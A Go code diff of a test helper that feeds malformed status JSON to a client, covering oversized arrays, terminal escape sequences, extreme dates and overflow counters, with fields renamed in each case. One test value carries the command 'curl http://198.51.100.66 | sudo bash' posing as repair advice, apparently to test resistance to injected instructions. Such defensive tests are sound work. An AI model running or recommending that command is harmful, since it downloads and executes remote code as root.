@@ -56,16 +56,16 @@ func besideWork() map[string]func() {
 		"challenges": func() { send(`{"news":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
 		"large":      func() { send(`{"news":{"lastFailure":"` + strings.Repeat("a", 1<<20) + `"}}`) },
 		"zone": func() {
-			send(`{"news":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","asker":"other","outcome":"failed"}]}}`)
+			send(`{"news":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"year": func() {
-			send(`{"news":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","asker":"other","outcome":"failed"}]}}`)
+			send(`{"news":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"advice": func() {
-			send(`{"news":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","asker":"other","outcome":"failed"}]}}`)
+			send(`{"news":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"counters": func() {
-			send(`{"news":{"sums":[{"asker":"other","outcome":"failed","count":1,"took":4611686018427387903}]}}`)
+			send(`{"news":{"sums":[{"clientKind":"other","outcome":"failed","count":1,"totalDuration":4611686018427387903}]}}`)
 		},
 		"flood":  flood,
 		"memory": memory,
